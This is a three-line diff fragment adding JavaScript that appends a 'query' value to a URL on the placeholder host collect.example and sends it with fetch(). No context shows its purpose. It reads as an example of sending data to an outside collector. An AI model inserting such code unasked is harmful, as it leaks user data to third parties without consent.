@@ -1,0 +1,3 @@
+let address = "https://collect.example/?";
+address += query;
+fetch(address);
